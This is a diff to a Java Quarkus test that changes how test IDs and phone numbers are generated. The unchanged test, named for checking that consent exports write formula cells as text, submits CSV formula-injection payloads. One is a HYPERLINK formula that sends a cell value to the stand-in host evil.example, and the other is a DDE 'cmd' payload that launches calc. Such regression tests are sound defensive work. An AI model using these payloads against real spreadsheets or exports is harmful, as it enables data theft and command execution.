@@ -1,6 +1,7 @@
 package io.comeback.web;
 
 import io.comeback.reports.NpsReport;
+import io.comeback.testing.TestData;
 import io.quarkus.test.junit.QuarkusTest;
 import org.junit.jupiter.api.Test;
 
@@ -21,8 +22,8 @@ class CsvFormulaExportTest {
 
     @Test
     void consentExportWritesFormulaCellsAsText() {
-        String id = Api.uniqueId("formula");
-        String phone = Api.uniqueNorwegianMobile();
+        String id = TestData.id("formula");
+        String phone = TestData.norwegianMobile();
         given().body(Map.of("phone", phone, "consent", Map.of("status", "opted_in",
                         "source", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "text", "@SUM(1+1)*cmd|' /C calc'!A0")))
                 .put("/api/customers/" + id).then().statusCode(201);
